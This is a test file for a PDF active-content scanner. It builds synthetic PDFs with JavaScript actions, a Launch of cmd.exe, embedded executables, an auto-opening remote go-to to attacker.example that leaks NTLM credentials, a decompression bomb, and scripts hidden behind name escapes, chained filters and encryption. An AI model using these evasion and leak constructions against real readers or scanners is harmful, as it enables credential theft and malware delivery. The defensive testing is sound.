import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { inspectPdf } from '../../core/documents/pdf-active-content';
import { javascriptPdf, pdfBytes, pdfWith } from '../support/documents/files';

const encrypted = (name: string) => readFile(path.join(import.meta.dirname, '../support/documents/encrypted', name));

/** One object stream written by hand, with its filters and decode parameters as given. */
function objectStreamPdf(
  objects: string[],
  { filter, parms = '', encode }: { filter: string; parms?: string; encode: (bytes: Buffer) => Buffer },
): Buffer {
  let header = '';
  let body = '';
  objects.forEach((object, index) => {
    header += `${index + 10} ${body.length} `;
    body += `${object}\n`;
  });
  const data = encode(Buffer.from(header + body, 'latin1'));
  return pdfWith({
    objects: [
      Buffer.concat([
        Buffer.from(
          `<</Type/ObjStm/N ${objects.length}/First ${header.length}/Filter${filter}${parms}/Length ${data.length}>>stream\n`,
        ),
        data,
        Buffer.from('\nendstream'),
      ]).toString('latin1'),
    ],
  });
}

/** PNG "Up" prediction (filter type 2) over rows of `columns` bytes, as PDF writers use it for Flate. */
function pngUp(bytes: Buffer, columns: number): Buffer {
  const rows: Buffer[] = [];
  let previous = Buffer.alloc(columns);
  for (let at = 0; at < bytes.length; at += columns) {
    const row = Buffer.alloc(columns);
    bytes.copy(row, 0, at, Math.min(at + columns, bytes.length));
    rows.push(Buffer.from([2]), Buffer.from(row.map((byte, i) => (byte - previous[i]!) & 0xff)));
    previous = row;
  }
  return Buffer.concat(rows);
}

describe('active content in a PDF', () => {
  it('finds none in plain documents, with links, a page to open at, a go-to action, or binary image data', () => {
    expect(inspectPdf(pdfBytes())).toEqual({ kind: 'passive' });
    expect(inspectPdf(pdfWith({ objectStream: true }))).toEqual({ kind: 'passive' });
    // What LibreOffice and LaTeX write: the page and zoom to open at.
    expect(inspectPdf(pdfWith({ catalog: '/OpenAction[3 0 R/XYZ null null 0]' }))).toEqual({ kind: 'passive' });
    expect(inspectPdf(pdfWith({ catalog: '/OpenAction 4 0 R', objects: ['[3 0 R/Fit]'], objectStream: true }))).toEqual(
      { kind: 'passive' },
    );
    expect(inspectPdf(pdfWith({ catalog: '/OpenAction<</S/GoTo/D[3 0 R/Fit]>>' }))).toEqual({ kind: 'passive' });
    // A link the reader clicks is not active content.
    expect(
      inspectPdf(
        pdfWith({
          page: '/Annots[4 0 R]',
          objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://school.example/)>>>>'],
        }),
      ),
    ).toEqual({
      kind: 'passive',
    });
    const image = randomBytes(2 * 1024 * 1024);
    const photo = pdfWith({
      page: '/Resources<</XObject<</Im0 4 0 R>>>>',
      objects: [
        `<</Type/XObject/Subtype/Image/Width 8/Height 8/Filter/DCTDecode/Length ${image.length}>>stream\n${image.toString('latin1')}\nendstream`,
      ],
    });
    expect(inspectPdf(photo)).toEqual({ kind: 'passive' });
  });

  it('finds JavaScript in plain sight, in a compressed object stream, and behind #xx escapes', () => {
    expect(inspectPdf(javascriptPdf())).toEqual({ kind: 'active', found: ['automatic-action', 'javascript'] });
    const packed = javascriptPdf({ objectStream: true });
    expect(packed.includes('JavaScript')).toBe(false);
    expect(inspectPdf(packed)).toEqual({ kind: 'active', found: ['automatic-action', 'javascript'] });
    // A document-level script (the /Names tree), every name escaped.
    const escaped = pdfWith({
      catalog: '/N#61mes<</J#61v#61Script 4 0 R>>',
      objects: [
        '<</Names[(x) 5 0 R]>>',
        '<</S/J#61v#61Scr#69pt/J#53 6 0 R>>',
        '<</Length 9>>stream\napp.beep(0)\nendstream',
      ],
    });
    expect(inspectPdf(escaped)).toEqual({ kind: 'active', found: ['javascript'] });
    // An XML (XFA) form, whose scripts are in its XML.
    expect(
      inspectPdf(
        pdfWith({ catalog: '/AcroForm<</Fields[]/XFA 4 0 R>>', objects: ['<</Length 0>>stream\n\nendstream'] }),
      ),
    ).toEqual({ kind: 'active', found: ['javascript'] });
    // A form field's script, with /JavaScript written only with escapes.
    expect(
      inspectPdf(
        pdfWith({
          page: '/Annots[4 0 R]',
          objects: ['<</Subtype/Widget/AA<</K<</S/#4A#61vaScript/JS<6170702e6265657028302920>>>>>>'],
        }),
      ),
    ).toEqual({
      kind: 'active',
      found: ['automatic-action', 'javascript'],
    });
  });

  it('decodes object streams through chained filters and predictors before reading them', () => {
    const script = "<</S/JavaScript/JS(app.alert('x'))>>";
    const hexThenFlate = objectStreamPdf([script], {
      filter: '[/ASCIIHexDecode/FlateDecode]',
      encode: (bytes) => Buffer.from(`${deflateSync(bytes).toString('hex')}>`),
    });
    expect(inspectPdf(hexThenFlate)).toEqual({ kind: 'active', found: ['javascript'] });
    const predicted = objectStreamPdf([script], {
      filter: '/FlateDecode',
      parms: '/DecodeParms<</Predictor 12/Columns 5>>',
      encode: (bytes) => deflateSync(pngUp(bytes, 5)),
    });
    expect(inspectPdf(predicted)).toEqual({ kind: 'active', found: ['javascript'] });
    const ascii85 = objectStreamPdf([script], {
      filter: '/A85',
      encode: (bytes) => Buffer.from(`${ascii85Encode(bytes)}~>`),
    });
    expect(inspectPdf(ascii85)).toEqual({ kind: 'active', found: ['javascript'] });
  });

  it('finds Launch, attached files, actions that leave the document, and actions that run by themselves', () => {
    expect(inspectPdf(pdfWith({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }))).toEqual({
      kind: 'active',
      found: ['automatic-action', 'launch'],
    });
    expect(
      inspectPdf(
        pdfWith({
          catalog: '/Names<</EmbeddedFiles 4 0 R>>',
          objects: ['<</Names[(a.exe) 5 0 R]>>', '<</Type/Filespec/F(a.exe)>>'],
        }),
      ),
    ).toEqual({
      kind: 'active',
      found: ['embedded-file'],
    });
    expect(
      inspectPdf(
        pdfWith({
          page: '/Annots[4 0 R]',
          objects: ['<</Subtype/FileAttachment/FS<</F(a.exe)>>>>'],
          objectStream: true,
        }),
      ),
    ).toEqual({
      kind: 'active',
      found: ['embedded-file'],
    });
    // The NTLM leak of a remote go-to to \\host\share, when the page opens.
    expect(
      inspectPdf(pdfWith({ page: '/AA<</O<</S/GoToE/F(\\\\\\\\attacker.example\\\\share\\\\x.pdf)>>>>' })),
    ).toEqual({
      kind: 'active',
      found: ['automatic-action', 'external-action'],
    });
    expect(inspectPdf(pdfWith({ catalog: '/OpenAction<</S/URI/URI(https://tracker.example/)>>' }))).toEqual({
      kind: 'active',
      found: ['automatic-action'],
    });
    expect(
      inspectPdf(
        pdfWith({
          catalog: '/OpenAction 4 0 R',
          objects: ['<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://tracker.example/)>>>>'],
        }),
      ),
    ).toEqual({
      kind: 'active',
      found: ['automatic-action'],
    });
  });

  it('opens an encrypted PDF that needs no password (qpdf: RC4 40 and 128, AES 128 and 256) and reads its encrypted object streams', async () => {
    for (const name of ['js-rc4-40.pdf', 'js-rc4-128.pdf', 'js-aes128.pdf', 'js-aes256.pdf', 'js-aes256-r5.pdf']) {
      const pdf = await encrypted(name);
      expect(pdf.includes('JavaScript'), name).toBe(false);
      expect({ name, verdict: inspectPdf(pdf) }).toEqual({
        name,
        verdict: { kind: 'active', found: ['automatic-action', 'javascript'] },
      });
    }
    for (const name of ['passive-rc4-128.pdf', 'passive-aes256.pdf'])
      expect({ name, verdict: inspectPdf(await encrypted(name)) }).toEqual({ name, verdict: { kind: 'passive' } });
    expect(inspectPdf(await encrypted('password-aes256.pdf'))).toEqual({ kind: 'password' });
  });

  it('says it could not check what it cannot read: an unknown filter, a decompression bomb, a file built to be slow', () => {
    expect(inspectPdf(objectStreamPdf(['<<>>'], { filter: '/JBIG2Decode', encode: (bytes) => bytes }))).toEqual({
      kind: 'unchecked',
    });
    expect(
      inspectPdf(
        objectStreamPdf(['<<>>'], {
          filter: '/FlateDecode',
          encode: () => deflateSync(Buffer.alloc(16 * 1024 * 1024)),
        }),
      ),
    ).toEqual({ kind: 'unchecked' });
    expect(inspectPdf(Buffer.from(`%PDF-1.7\n${'1 0 obj [[(<<'.repeat(200_000)}`))).toEqual({ kind: 'unchecked' });
    expect(
      inspectPdf(Buffer.from(`%PDF-1.7\n${'/OpenAction 1 0 R '.repeat(1_000)}1 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj`)),
    ).toEqual({ kind: 'unchecked' });
  });
});

function ascii85Encode(bytes: Buffer): string {
  let out = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const group = Buffer.alloc(4);
    bytes.copy(group, 0, at, at + 4);
    let value = group.readUInt32BE(0);
    const digits: string[] = [];
    for (let i = 0; i < 5; i++) {
      digits.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, Math.min(5, bytes.length - at + 1)).join('');
  }
  return out;
}
